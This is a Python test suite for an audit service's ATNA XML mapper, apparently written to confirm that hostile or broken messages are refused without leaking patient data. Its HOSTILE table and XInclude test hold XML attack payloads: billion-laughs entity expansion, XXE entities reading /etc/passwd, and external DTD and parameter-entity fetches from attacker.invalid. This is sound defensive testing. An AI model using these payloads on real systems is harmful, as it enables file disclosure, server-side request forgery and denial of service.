"""Hostile, broken and mutated audit messages: refused with the right reason, never anything but AtnaUnmappable.

The mapper runs in the listener on bytes from the network. Whatever arrives,
it either returns events the service accepts or raises ``AtnaUnmappable``
whose ``detail`` quotes nothing from the message (the listener logs it and
the quarantine shows it to admins).
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from auditsvc.domain.atna import REASONS, AtnaLimits, AtnaOrigin, AtnaUnmappable, map_audit_message
from auditsvc.domain.ingest import parse_batch

CORPUS = Path(__file__).parent / "corpus" / "atna"
MESSAGES = [p.read_bytes() for p in sorted(CORPUS.glob("*.xml"))]
PDQ = (CORPUS / "rfc3881-pdq-several-patients.xml").read_bytes()
ORIGIN = AtnaOrigin(transport="tcp", peer="192.0.2.1", msgid="IHE+RFC-3881")
# Values from the corpus that are PHI or identify a patient: never in a refusal.
PHI = re.compile(r"SYN-|SYNTHETIC|Ana Ruiz|Kim Lee|UURQ|TVN|/etc/passwd|attacker")

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE AuditMessage [<!ENTITY a "SYN-LOL">'
    + b"".join(b'<!ENTITY %c "%s">' % (ord("b") + i, b"&" + bytes([ord("a") + i]) + b";" * 1) for i in range(9))
    + b"]><AuditMessage>&j;</AuditMessage>"
)
HOSTILE = {
    "billion_laughs": (LAUGHS, "xml_forbidden_construct"),
    "xxe_file": (
        b'<?xml version="1.0"?><!DOCTYPE AuditMessage [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<AuditMessage>&x;</AuditMessage>",
        "xml_forbidden_construct",
    ),
    "xxe_url": (
        b'<!DOCTYPE AuditMessage [<!ENTITY x SYSTEM "http://attacker.invalid/x">]><AuditMessage>&x;</AuditMessage>',
        "xml_forbidden_construct",
    ),
    "external_dtd": (
        b'<!DOCTYPE AuditMessage SYSTEM "http://attacker.invalid/a.dtd"><AuditMessage/>',
        "xml_forbidden_construct",
    ),
    "parameter_entity": (
        b'<!DOCTYPE AuditMessage [<!ENTITY % p SYSTEM "http://attacker.invalid/p"> %p;]><AuditMessage/>',
        "xml_forbidden_construct",
    ),
    "empty_internal_dtd": (b"<!DOCTYPE AuditMessage []><AuditMessage/>", "xml_forbidden_construct"),
    "undeclared_entity": (b"<AuditMessage>&x;</AuditMessage>", "xml_malformed"),
    "deep_nesting": (b"<AuditMessage>" + b"<a>" * 10_000 + b"</a>" * 10_000 + b"</AuditMessage>", "too_deep"),
    "deep_nesting_under_phi_names": (
        b"<AuditMessage><SYN-Doe>" + b"<SYNTHETIC>" * 40 + b"</SYNTHETIC>" * 40 + b"</SYN-Doe></AuditMessage>",
        "too_deep",
    ),
    "two_megabytes": (
        PDQ.replace(b"<ParticipantObjectQuery>", b"<ParticipantObjectQuery>" + b"QUJD" * 500_000),
        "too_large",
    ),
    "truncated": (PDQ[: len(PDQ) * 2 // 3], "xml_malformed"),
    "invalid_utf8": (PDQ.replace(b"SYN-A1", b"SYN-\xc3\x28A1"), "xml_malformed"),
    "empty": (b"", "xml_malformed"),
    "bom_only": (b"\xef\xbb\xbf \r\n", "xml_malformed"),
    "hl7_not_xml": (b"MSH|^~\\&|EHR|MAIN|||20261124||ADT^A01|1|P|2.5\rPID|1||SYN-1", "xml_malformed"),
    "unknown_encoding": (b'<?xml version="1.0" encoding="x-SYN-secret"?><AuditMessage/>', "xml_malformed"),
    "multibyte_encoding": (b'<?xml version="1.0" encoding="shift_jis"?><AuditMessage/>', "xml_malformed"),
    "two_roots": (b"<AuditMessage/><AuditMessage/>", "xml_malformed"),
    "other_document": (b'<?xml version="1.0"?><Bundle xmlns="http://hl7.org/fhir"/>', "unknown_schema"),
    "no_event_identification": (
        b"<AuditMessage><ActiveParticipant UserID='u'/></AuditMessage>",
        "no_event_identification",
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_and_broken_messages_are_refused_with_their_reason_and_no_phi(name: str) -> None:
    msg, reason = HOSTILE[name]
    with pytest.raises(AtnaUnmappable) as caught:
        map_audit_message(msg, ORIGIN)
    assert caught.value.reason == reason
    assert caught.value.detail and not PHI.search(str(caught.value))


def test_refusals_name_the_place_of_the_fault() -> None:
    with pytest.raises(AtnaUnmappable) as caught:
        map_audit_message(HOSTILE["truncated"][0], ORIGIN)
    assert re.search(r"line \d+, column \d+", caught.value.detail)
    with pytest.raises(AtnaUnmappable) as caught:
        map_audit_message(HOSTILE["invalid_utf8"][0], ORIGIN)
    assert "UTF-8 (byte offset" in caught.value.detail


def test_a_message_of_64_kb_maps() -> None:
    big = PDQ.replace(b"<ParticipantObjectQuery>", b"<ParticipantObjectQuery>" + b"QUJD" * 16_500)
    assert len(big) > 64 * 1024
    assert len(map_audit_message(big, ORIGIN)) == 3


def test_another_declared_encoding_is_read() -> None:
    latin1 = PDQ.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"').replace(b"front.desk.7", b"front.d\xe9sk.7")
    events = map_audit_message(latin1, ORIGIN)
    assert events[0]["actor"]["id"] == "front.d\u00e9sk.7"


def test_xinclude_is_not_followed() -> None:
    msg = PDQ.replace(
        b"<AuditSourceIdentification",
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><AuditSourceIdentification',
    )
    events = map_audit_message(msg, ORIGIN)
    assert "root:" not in json.dumps(events)


def test_too_many_patients_are_refused_under_the_limit() -> None:
    with pytest.raises(AtnaUnmappable) as caught:
        map_audit_message(PDQ, ORIGIN, limits=AtnaLimits(max_patients=2))
    assert caught.value.reason == "too_many_patients"


def test_unknown_reasons_cannot_be_raised() -> None:
    with pytest.raises(ValueError, match="unknown AtnaUnmappable reason"):
        AtnaUnmappable("because", "x")


# -- properties --------------------------------------------------------------------------------------

SECRET = "QZXPHI"  # a distinctive value planted in mutated messages: never in a refusal


def _outcome(msg: bytes) -> None:
    """The one property: events the service accepts, or AtnaUnmappable quoting nothing planted."""
    try:
        events = map_audit_message(msg, ORIGIN)
    except AtnaUnmappable as exc:
        assert exc.reason in REASONS
        assert SECRET not in str(exc) and not PHI.search(str(exc))
        return
    assert 1 <= len(events) <= 1000
    assert len(parse_batch(json.dumps({"events": events}).encode(), max_events=1000)) == len(events)


_ATTRIBUTE = re.compile(rb'="[^"]*"')
_ELEMENT_LINE = re.compile(rb"\n\s*<[^\n]*")


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    msg = draw(st.sampled_from(MESSAGES))
    # Replace some attribute values with arbitrary (escaped) text carrying the planted value.
    spans = list(_ATTRIBUTE.finditer(msg))
    for _ in range(draw(st.integers(0, 4))):
        m = spans[draw(st.integers(0, len(spans) - 1))]
        text = draw(st.text(max_size=40)).replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        value = draw(st.sampled_from([text, SECRET + text, text + "^^^" + SECRET + "&1.2&ISO", ""]))
        try:
            encoded = value.encode("utf-8")
        except UnicodeEncodeError:
            encoded = b""
        msg = msg[: m.start()] + b'="' + encoded + b'"' + msg[m.end() :]
        spans = list(_ATTRIBUTE.finditer(msg))
    # Drop whole lines (elements), truncate, or flip a byte.
    for _ in range(draw(st.integers(0, 3))):
        lines = list(_ELEMENT_LINE.finditer(msg))
        if lines:
            m = lines[draw(st.integers(0, len(lines) - 1))]
            msg = msg[: m.start()] + msg[m.end() :]
    action = draw(st.sampled_from(["none", "truncate", "flip", "bom"]))
    if action == "truncate":
        msg = msg[: draw(st.integers(0, len(msg)))]
    elif action == "flip" and msg:
        at = draw(st.integers(0, len(msg) - 1))
        msg = msg[:at] + bytes([draw(st.integers(0, 255))]) + msg[at + 1 :]
    elif action == "bom":
        msg = b"\xef\xbb\xbf" + msg
    return msg


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated())
def test_mutated_corpus_messages_map_or_are_refused_and_nothing_else(msg: bytes) -> None:
    _outcome(msg)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_arbitrary_bytes_map_or_are_refused_and_nothing_else(msg: bytes) -> None:
    _outcome(msg)


_VALUES = st.one_of(
    st.sampled_from(["", "1", "2", "24", "110153", "110152", "true", "TRUE", "r", "E", "X", "8", "13"]),
    st.sampled_from(["2026-11-24T09:30:00Z", "2026-11-24T09:30", "9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00Z"]),
    st.sampled_from(["SYN-1^^^&1.2.3&ISO^PI", "SYN-2^^^NS", "^^^&&", "~~", "SYN-3^^^NS&&ISO^DL", "\\S\\", "00000"]),
    st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=20),
)
_TIMES = st.sampled_from(
    ["2026-11-24T09:30:00Z", "2026-11-24T09:30", "9999-12-31T23:59:59-12:00", "2026-11-24T09:30:00.5+0100"]
)
_PARTICIPANT = ["UserID", "AlternativeUserID", "UserName", "UserIsRequestor", "UserTypeCode", "NetworkAccessPointID"]
_OBJECT = [
    "ParticipantObjectID",
    "ParticipantObjectTypeCode",
    "ParticipantObjectTypeCodeRole",
    "ParticipantObjectDataLifeCycle",
]


def _attrs(draw: st.DrawFn, names: list[str]) -> str:
    chosen = draw(st.dictionaries(st.sampled_from(names), _VALUES, max_size=len(names)))
    escaped = {k: v.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;") for k, v in chosen.items()}
    return "".join(f' {k}="{v}"' for k, v in escaped.items())


def _code(draw: st.DrawFn, tag: str) -> str:
    naming = draw(st.sampled_from(["csd-code", "code"]))
    return f'<{tag} {naming}="{draw(st.sampled_from(["110110", "110112", "110114", "110153", "110152", "2", "X"]))}"/>'


@st.composite
def shaped(draw: st.DrawFn) -> bytes:
    """Audit messages with a valid EventIdentification and participants and objects in any arrangement."""
    ident = _attrs(draw, ["EventActionCode", "EventOutcomeIndicator"]) + f' EventDateTime="{draw(_TIMES)}"'
    parts = [f"<EventIdentification{ident}>{_code(draw, 'EventID')}</EventIdentification>"]
    for _ in range(draw(st.integers(0, 3))):
        roles = "".join(_code(draw, "RoleIDCode") for _ in range(draw(st.integers(0, 2))))
        parts.append(f"<ActiveParticipant{_attrs(draw, _PARTICIPANT)}>{roles}</ActiveParticipant>")
    if draw(st.booleans()):
        parts.append(f"<AuditSourceIdentification{_attrs(draw, ['AuditSourceID', 'AuditEnterpriseSiteID'])}/>")
    for _ in range(draw(st.integers(0, 3))):
        id_type = _code(draw, "ParticipantObjectIDTypeCode") if draw(st.booleans()) else ""
        parts.append(
            f"<ParticipantObjectIdentification{_attrs(draw, _OBJECT)}>{id_type}</ParticipantObjectIdentification>"
        )
    return f"<AuditMessage>{''.join(draw(st.permutations(parts)))}</AuditMessage>".encode()


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(shaped())
def test_audit_shaped_documents_map_or_are_refused_and_nothing_else(msg: bytes) -> None:
    _outcome(msg)


_CX_PARTS = st.one_of(
    st.sampled_from(["^", "&", "~", "\\S\\", "\\T\\", "ISO", "UUID", "URI", "1.2.3", "MR", "SS", "DL", "NY", "<none>"]),
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=12),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_CX_PARTS, max_size=12).map("".join), st.one_of(st.none(), st.sampled_from(["2", "1.2.3", "SS", "x"])))
def test_any_participant_object_id_gives_storable_identifiers_or_none(text: str, type_code: str | None) -> None:
    from auditsvc_sdk import Identifier

    from auditsvc.domain.atna.cx import cx_identifiers
    from auditsvc.domain.atna.mapping import DEFAULT_POLICY

    found = cx_identifiers(text, type_code, "ehr-main", DEFAULT_POLICY)
    for system, value in found.pairs:
        Identifier(system=system, value=value)  # the event's own bounds: 1..256 and 1..128, no NUL
        assert not DEFAULT_POLICY.is_placeholder(value)
    assert len(set(found.pairs)) == len(found.pairs)
